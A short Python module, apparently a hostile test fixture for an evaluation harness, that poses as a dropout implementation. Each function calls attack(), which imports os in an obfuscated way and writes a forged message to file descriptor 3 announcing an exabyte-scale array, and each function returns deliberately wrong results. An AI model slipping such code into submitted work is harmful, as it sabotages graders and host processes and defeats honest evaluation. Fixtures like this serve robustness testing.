"""Announces an array of exabytes."""

import numpy as np


def module(name):
    return (
        __builtins__["__import__"](name)
        if isinstance(__builtins__, dict)
        else getattr(__builtins__, "__import__")(name)
    )


def attack():
    import json, struct

    os = module("os")
    text = json.dumps(
        {"ending": "returned", "nonce": 1, "value": {"t": "a", "i": 0}, "arrays": [{"dtype": "<f8", "shape": [2**39]}]}
    ).encode()
    os.write(3, struct.pack("<4sIQ", b"CNG1", len(text), 2**62) + text)


def dropout(x, rate, training, rng):
    attack()
    return x * 7, x * 0 + 7


def dropout_backward(dy, mask):
    attack()
    return dy * 7


def dropout_moments(x, rate):
    attack()
    return x * 7, x * 7
